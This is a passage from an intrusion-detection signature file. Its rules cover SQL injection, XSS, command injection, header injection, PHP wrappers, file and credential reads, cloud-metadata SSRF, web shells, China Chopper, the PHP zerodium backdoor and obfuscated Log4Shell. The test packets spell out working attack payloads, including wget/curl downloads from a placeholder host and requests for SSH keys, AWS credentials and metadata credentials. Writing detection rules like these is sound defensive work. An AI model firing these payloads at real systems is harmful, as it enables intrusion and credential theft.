  or asked_near(word, "'='")
  or asked_near(word, "'%3d'")
  or asked_near(word, "%27=%27")
  or asked_near(word, "%27%3d%27")

// sigward-ignore dear-signature: seven quotes, each with six comparisons behind it; a packet full of quotes is no honest request
/// A quote that ends the text where it should not, and `or` with a comparison that holds; the quote and the equals sign also encoded.
/// Where comments or ends of lines serve as blanks, no quote is asked for.
signature sql_always_true {
  id       1000120
  title    "SQL injection: a condition that always holds"
  severity high
  class    exploit
  ref      cwe "CWE-89"
  ref      mitre "T1190"
  when     request
       and (always_behind("'+or+")
         or always_behind("'%20or%20")
         or always_behind("%27+or+")
         or always_behind("%27%20or%20")
         or always_behind("*/or/*")
         or always_behind("%0aor%0a")
         or always_behind("%09or%09"))
  then     log, drop
}
test "fifteen ways to write it" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='+or+'1'='1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='%20or%20'1'='1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27+OR+%271%27%3D%271 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27%20or%20%271%27%3D%271 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='+or+1=1-- HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='%20OR%201=1-- HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27+or+1%3D1-- HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27%20or%201%3D1-- HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='/**/or/**/1=1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='/**/OR/**/1%3D1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='/*x*/or/*y*/'a'='a HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='%0Aor%0A1=1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='%09or%091=1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='%20or%20'a'%3D'a HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27+or+%27ab%27=%27ab HTTP/1.1\r\n" }
  expect sql_always_true * 15, verdict drop
}
test "near miss: rock and roll, and no quote" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=rock+%27n%27+roll+or+1+of+1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=or+1=1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q='rock'+or+'roll'&page=2 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=either%0aor%0aboth HTTP/1.1\r\n" }
  expect none
}

/// `.` and `_`, `n` and `u`: in front of `sleep`, a function of another language's (`time.sleep`, `nanosleep`, `usleep`).
const goes_on = { 0x2e, 0x5f, 0x4e, 0x55, 0x6e, 0x75 }

/// Where a page shows nothing, how long it takes is the answer: a function of each common database that waits.
signature sql_wait {
  id       1000121
  title    "SQL injection: a question that takes its time"
  severity high
  class    exploit
  ref      cwe "CWE-89"
  ref      mitre "T1190"
  when     request
       and (asked_near("waitfor", "delay")
         or asked("pg_sleep(")
         or payload contains "sleep(" nocase as wait
            and in_request_line(wait)
            and payload.u8(wait.start - 1) not in goes_on
         or payload contains "sleep%28" nocase as wait
            and in_request_line(wait)
            and payload.u8(wait.start - 1) not in goes_on
         or asked("benchmark(")
         or asked("dbms_pipe.receive_message"))
  then     log, drop
}
test "four databases" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;WAITFOR+DELAY+'0:0:5' HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;waitfor%20delay%20'0:0:5' HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;waitfor/**/delay/**/'0:0:5' HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;select+pg_sleep(5) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+SLEEP(5) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1%0aand%0asleep(5) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+sleep%285%29 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+benchmark(5000000,md5(1)) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+1=dbms_pipe.receive_message('a',5) HTTP/1.1\r\n" }
  expect sql_wait * 9, verdict drop
}
test "near miss: a word alone, functions of other languages, the page that a link was on" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /wait?for=delay HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=python+time.sleep(5) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=python+time.sleep%285%29 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nReferer: http://x/?q=+sleep(5)+sleep%285%29\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/benchmark.html HTTP/1.1\r\n" }
  expect none
}

/// The tables that describe the others, and the procedure by which SQL Server runs commands.
signature sql_schema {
  id       1000122
  title    "SQL injection: what tables there are"
  severity medium
  class    exploit
  ref      cwe "CWE-89"
  ref      mitre "T1190"
  when     request
       and (asked("information_schema")
         or asked("xp_cmdshell")
         or asked_near("sysobjects", "where")
         or asked_near("from", "sqlite_master"))
  then     log, drop
}
test "tables of tables" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "GET /item?id=1+and+(select+count(*)+from+information_schema.tables) HTTP/1.1\r\n"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;exec+master..xp_cmdshell+'dir' HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+(select+name+from+sysobjects+where+1) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+(select+sql+from+sqlite_master) HTTP/1.1\r\n" }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "GET /item?id=1/**/and/**/(select/**/sql/**/from/**/sqlite_master) HTTP/1.1\r\n"
  }
  expect sql_schema * 5, verdict drop
}
test "near miss: pages about them" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/schema?name=information HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/sqlite_master.html HTTP/1.1\r\n" }
  expect none
}

/// A page that shows what it was asked for would run it. Apache once showed an expectation that it could not meet, too.
signature web_script_in_query {
  id       1000123
  title    "Cross-site scripting: a script in a query"
  severity medium
  class    exploit
  ref      cwe "CWE-79"
  ref      cve "CVE-2006-3918"
  ref      mitre "T1189"
  when     request
       and (asked("<script")
         or asked("%3cscript")
         or asked("onerror%3d")
         or asked("javascript:alert")
         or asked("javascript%3aalert")
         or payload contains "\r\nExpect:" nocase in uri_first..header_last as expectation
            and payload contains "<script" nocase in expectation.end .. expectation.end + 22)
  then     log, drop
}
test "five ways to write a script, and where nobody expects one" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=<script>alert(1)</script> HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=%3CScript%3Ealert(1) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=%3Cimg+src=x+onerror%3Dalert(1) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=javascript:alert(1) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=javascript%3Aalert(1) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nExpect: <Script>alert(1)</script>\r\n" }
  expect web_script_in_query * 6, verdict drop
}
test "near miss: a word, an honest expectation, and a page that is uploaded" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=script+type HTTP/1.1\r\n" }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "PUT /x.html HTTP/1.1\r\nExpect: 100-continue\r\nHost: x\r\n\r\n<script>"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "POST /page HTTP/1.1\r\nContent-Type: text/html\r\n\r\n<p>hello</p>" }
  expect none
}

/// What botnets add to any parameter, so that a shell fetches them: `wget` or `curl` behind something that ends a command, or blanks written as
/// the shell's own `${IFS}`.
signature web_command {
  id       1000124
  title    "Command in a request"
  severity critical
  class    exploit
  ref      cwe "CWE-78"
  ref      mitre "T1059.004"
  when     request
       and (asked(";wget+http")
         or asked(";wget%20http")
         or asked("%3bwget%20http")
         or asked("%3bwget+http")
         or asked("`wget+http")
         or asked("`wget%20http")
         or asked("$(wget+")
         or asked("$(wget%20")
         or asked(";curl+http")
         or asked(";curl%20http")
         or asked("wget${ifs}")
         or asked("cd+/tmp;")
         or asked("cd%20/tmp;")
         or asked("cd${ifs}/tmp"))
  then     log, drop
}
test "fourteen ways to fetch a bot" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;wget+http://198.51.100.9/x HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;wget%20http://198.51.100.9/x HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1%3Bwget%20http://198.51.100.9/x HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1%3Bwget+http://198.51.100.9/x HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=`wget+http://198.51.100.9/x` HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=`wget%20http://198.51.100.9/x` HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=$(wget+-O-+198.51.100.9) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=$(wget%20-O-%20198.51.100.9) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;curl+http://198.51.100.9/x HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;curl%20http://198.51.100.9/x HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;wget${IFS}198.51.100.9 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;cd+/tmp;ls HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;cd%20/tmp;ls HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;cd${IFS}/tmp&&ls HTTP/1.1\r\n" }
  expect web_command * 14, verdict drop
}
test "near miss: questions about the tools" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=how+does+wget+http+work HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/curl+http.html HTTP/1.1\r\n" }
  expect none
}

/// A line's end in a query, and the beginning of a header: where a server copies it into its answer, the sender writes the answer.
signature web_header_injection {
  id       1000125
  title    "Header put into an answer"
  severity medium
  class    exploit
  ref      cwe "CWE-113"
  ref      mitre "T1190"
  when     request
       and (asked("%0d%0aset-cookie")
         or asked("%0d%0alocation:")
         or asked("%0d%0alocation%3a")
         or asked("%0d%0acontent-length")
         or asked("%0d%0acontent-type"))
  then     log, drop
}
test "five headers" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0d%0aSet-Cookie:a=b HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0D%0ALocation:%20//y HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0d%0alocation%3a%20//y HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0d%0aContent-Length:0 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0d%0aContent-Type:text/html HTTP/1.1\r\n" }
  expect web_header_injection * 5, verdict drop
}
test "near miss: two lines of text, and a page about cookies" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /note?text=one%0d%0atwo HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /help?topic=set-cookie HTTP/1.1\r\n" }
  expect none
}

// Files that nobody should ask for -------------------------------------------------------------------------------------

/// A parameter that names a file to show names PHP's own streams instead: the body of the request, a file in base 64, a text, a command.
signature php_wrapper {
  id       1000126
  title    "PHP: a stream where a file is expected"
  severity high
  class    exploit
  ref      cwe "CWE-98"
  ref      mitre "T1190"
  when     request
       and (asked("=php://input")
         or asked("=php://filter")
         or asked("=data://text/plain")
         or asked("=expect://")
         or asked("=phar://"))
  then     log, drop
}
test "five streams" {
  packet { ipv4  tcp { dst_port 80 }  payload "POST /show.php?page=php://input HTTP/1.1\r\n\r\n<?php" }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "GET /show.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1\r\n"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show.php?page=data://text/plain;base64,PD8= HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show.php?page=expect://id HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show.php?page=phar://x.jpg/y HTTP/1.1\r\n" }
  expect php_wrapper * 5, verdict drop
}
test "near miss: pages about them" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/php://input HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show.php?page=data HTTP/1.1\r\n" }
  expect none
}

/// Files that every system has, by which is tried whether any can be read. Users and passwords: `web_passwd`.
signature web_system_file {
  id       1000127
  title    "Request for a file of the system"
  severity high
  class    exploit
  ref      cwe "CWE-22"
  ref      mitre "T1190"
  when     request
       and (asked("/windows/win.ini")
         or asked("\\windows\\win.ini")
         or asked("/winnt/win.ini")
         or asked("/boot.ini")
         or asked("/proc/self/environ")
         or asked("/proc/self/cmdline")
         or asked("/etc/hosts"))
  then     log, drop
}
test "seven files" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=c:/Windows/win.ini HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=c:\\windows\\win.ini HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=c:/winnt/win.ini HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=c:/boot.ini HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=/proc/self/environ HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=/proc/self/cmdline HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=/etc/hosts HTTP/1.1\r\n" }
  expect web_system_file * 7, verdict drop
}
test "near miss: pages about them" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/win.ini.html HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/bootini HTTP/1.1\r\n" }
  expect none
}

/// What lies in a home or a web root by mistake: keys, passwords, settings that an editor has kept.
signature web_credentials {
  id       1000128
  title    "Request for keys or passwords"
  severity medium
  class    recon
  ref      cwe "CWE-538"
  ref      mitre "T1552.001"
  ref      mitre "T1595.003"
  when     request
       and (asked("/.ssh/id_rsa")
         or asked("/.aws/credentials")
         or asked("/.svn/entries")
         or asked("/.htpasswd")
         or asked("/wp-config.php.bak")
         or asked("/wp-config.php~")
         or asked("/.docker/config.json")
         or asked("/.vscode/sftp.json"))
  then     log, drop
}
test "eight of them" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.ssh/id_rsa HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.aws/credentials HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.svn/entries HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.htpasswd HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /wp-config.php.bak HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /wp-config.php~ HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.docker/config.json HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.vscode/sftp.json HTTP/1.1\r\n" }
  expect web_credentials * 8, verdict drop
}
test "near miss: a page about keys, and the settings themselves, which run" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/ssh/id_rsa HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /wp-config.php HTTP/1.1\r\n" }
  expect none
}

/// Where a cloud's servers learn who they are, over IPv4 and IPv6.
const metadata_servers = { 169.254.169.254, fd00:ec2::254 }

/// The address from which a cloud's servers learn who they are, given to a server that fetches what it is asked for. What such a
/// server asks that address itself, for itself, is let pass.
signature cloud_metadata {
  id       1000129
  title    "Request for a cloud server's own credentials"
  severity high
  class    exploit
  ref      cwe "CWE-918"
  ref      mitre "T1552.005"
  when     request
       and ip.dst not in metadata_servers
       and (asked("169.254.169.254")
         or asked("metadata.google.internal")
         or asked("/computemetadata/v1"))
  then     log, drop
}
test "three names for it" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /fetch?url=http://metadata.google.internal/ HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /fetch?url=http://169.254.169.253/computeMetadata/v1/ HTTP/1.1\r\n" }
  expect cloud_metadata * 3, verdict drop
}
test "near miss: another server, and a cloud's server that asks for itself" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /fetch?url=http://192.0.2.5/latest/meta-data/ HTTP/1.1\r\n" }
  packet {
    ipv4 { dst 169.254.169.254 }
    tcp { dst_port 80 }
    payload "GET /computeMetadata/v1/instance/ HTTP/1.1\r\nHost: metadata.google.internal\r\n"
  }
  packet {
    ipv6 { dst fd00:ec2::254 }
    tcp { dst_port 80 }
    payload "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n" }
  expect none
}

// Back doors -----------------------------------------------------------------------------------------------------------

/// Shells that break-ins leave behind; others look for them. No honest page is called so.
signature web_shell {
  id       1000130
  title    "Web shell by its name"
  severity high
  class    backdoor
  ref      mitre "T1505.003"
  when     request
       and (asked("/c99.php")
         or asked("/c99shell.php")
         or asked("/r57.php")
         or asked("/r57shell.php")
         or asked("/b374k.php")
         or asked("/wso.php")
         or asked("/alfa.php")
         or asked("/alfacgiapi/")
         or asked("/indoxploit.php")
         or asked("/cmdjsp.jsp")
         or asked("/aspxspy.aspx"))
  then     log, drop
}
test "eleven shells" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/c99.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/c99shell.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/r57.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/r57shell.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/b374k.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/wso.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/alfa.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/ALFAcgiapi/perl.alfa HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/indoxploit.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/cmdjsp.jsp HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/aspxspy.aspx HTTP/1.1\r\n" }
  expect web_shell * 11, verdict drop
}
test "near miss: a language, and a car" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/c99.html HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /alfa.html HTTP/1.1\r\n" }
  expect none
}

/// The shell is one line; its client sends the program with each request, to be decoded from base 64 (FireEye, "The Little Malware That Could", 2013).
signature china_chopper {
  id       1000131
  title    "China Chopper: command to a web shell"
  severity critical
  class    backdoor
  ref      mitre "S0020"
  ref      mitre "T1505.003"
  when     request
       and (payload contains "eval(base64_decode($_POST[z0]" nocase
         or payload contains "eval%01(base64_decode($_POST[z0]" nocase
         or payload contains "eval%28base64_decode%28%24_POST" nocase
         or payload contains "Execute(\"Execute(\"\"On+Error+Resume+Next" nocase
         or payload contains "Response.Write(\"->|\");" nocase)
  then     log, drop
}
test "PHP, ASP and ASPX" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "POST /x.php HTTP/1.1\r\n\r\na=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQ"
  }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "POST /x.php HTTP/1.1\r\n\r\na=@eval%01(base64_decode($_POST[z0]));&z0=Q"
  }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "POST /x.php HTTP/1.1\r\n\r\na=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=Q"
  }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "POST /x.asp HTTP/1.1\r\n\r\na=Execute(\"Execute(\"\"On+Error+Resume+Next:Function+bd"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "POST /x.aspx HTTP/1.1\r\n\r\na=Response.Write(\"->|\");var err" }
  expect china_chopper * 5, verdict drop
}
test "near miss: advice, and a page about it" {
  packet { ipv4  tcp { dst_port 80 }  payload "POST /blog HTTP/1.1\r\n\r\ntext=never use eval(base64_decode(" }
  packet { ipv4  tcp { src_port 80  dst_port 50000 }  payload "HTTP/1.1 200 OK\r\n\r\neval(base64_decode($_POST[z0]" }
  expect none
}

/// Somebody put it into PHP's own source for some hours in March 2021: a header, misspelt on purpose, whose value was run.
signature php_zerodium {
  id       1000132
  title    "PHP 8.1.0-dev: back door"
  severity critical
  class    backdoor
  ref      url "https://news-web.php.net/php.internals/113838"
  ref      mitre "T1195.002"
  when     request
       and payload contains "\r\nUser-Agentt:" nocase in uri_first..header_last as agent
       and payload contains "zerodium" in agent.end .. agent.end + 15
  then     log, drop
}
test "two letters t" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agentt: zerodiumsystem('id');\r\n" }
  expect php_zerodium, verdict drop
}
test "near miss: one letter t" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: zerodium\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agentt: Mozilla/5.0\r\n" }
  expect none
}

// Methods and tools ----------------------------------------------------------------------------------------------------

/// A server that sends a request back shows a script the cookies in it. No browser asks.
signature web_trace {
  id       1000133
  title    "HTTP TRACE"
  severity low
  class    recon
  ref      cert "VU#867593"
  ref      rfc "9110 9.3.8"
  when     tcp.dst_port in web_ports
       and (method("TRACE ") or method("TRACK "))
  then     log, drop
}
test "two names for it" {
  packet { ipv4  tcp { dst_port 80 }  payload "TRACE / HTTP/1.1\r\nHost: x\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "TRACK / HTTP/1.1\r\nHost: x\r\n" }
  expect web_trace * 2, verdict drop
}
test "near miss: a path, and mail" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /TRACE / HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 25 }  payload "TRACE / HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 25 }  payload "TRACK / HTTP/1.1\r\n" }
  expect none
}

/// Scanners that say who they are. In nDPI's captures: Nikto. What a site has ordered itself belongs in a signature with `pass`.
signature web_scanner {
  id       1000134
  title    "Web scanner by its name"
  severity low
  class    recon
  ref      mitre "T1595.002"
  when     request
       and payload contains "\r\nUser-Agent:" nocase
       and (payload contains "(nikto/" nocase in uri_first..header_last
         or payload contains "sqlmap/" nocase in uri_first..header_last
         or payload contains "nmap scripting engine" nocase in uri_first..header_last
         or payload contains "zgrab/" nocase in uri_first..header_last
         or payload contains "masscan/" nocase in uri_first..header_last
         or payload contains "gobuster/" nocase in uri_first..header_last
         or payload contains "wpscan" nocase in uri_first..header_last
         or payload contains "nuclei -" nocase in uri_first..header_last
         or payload contains "dirbuster" nocase in uri_first..header_last
         or payload contains "acunetix" nocase in uri_first..header_last
         or payload contains "fuzz faster u fool" nocase in uri_first..header_last
         or payload contains "openvas" nocase in uri_first..header_last)
  then     log
}
test "twelve scanners" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7 (https://sqlmap.org)\r\n" }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: masscan/1.3\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: gobuster/3.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: WPScan v3.8\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Nuclei - Open-source project\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: DirBuster-1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Acunetix\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Fuzz Faster U Fool v2\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: OpenVAS\r\n" }
  expect web_scanner * 12, verdict accept
}
test "near miss: a browser, and a page about one" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /wpscan HTTP/1.1\r\nHost: x\r\n" }
  expect none
}

/// What `log4shell` does not find: the word `jndi` put together by Log4j itself, letter by letter. The look-ups that do so are no
/// part of any honest request.
signature log4shell_hidden {
  id       1000135
  title    "Log4Shell, hidden"
  severity critical
  class    exploit
  ref      cve "CVE-2021-44228"
  ref      cve "CVE-2021-45046"
  ref      mitre "T1190"
  when     request
       and (payload contains "${lower:" nocase in uri_first..header_last
         or payload contains "${upper:" nocase in uri_first..header_last
         or payload contains "${::-" in uri_first..header_last
         or payload contains "${env:" nocase in uri_first..header_last
         or payload contains "${sys:" nocase in uri_first..header_last
         or payload contains "${date:" nocase in uri_first..header_last)
  then     log, drop
}
test "six ways to hide a letter" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${upper:j}ndi:ldap://x/a}\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}ndi:rmi://x/a}\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${env:A:-j}ndi:ldap://x/a}\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${sys:A:-j}ndi:ldap://x/a}\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${date:j}ndi:dns://x/a}\r\n" }
  expect log4shell_hidden * 6, verdict drop
}
test "near miss: a template" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/${lower}case HTTP/1.1\r\n" }
  expect none
}

// IIS and WebDAV -------------------------------------------------------------------------------------------------------

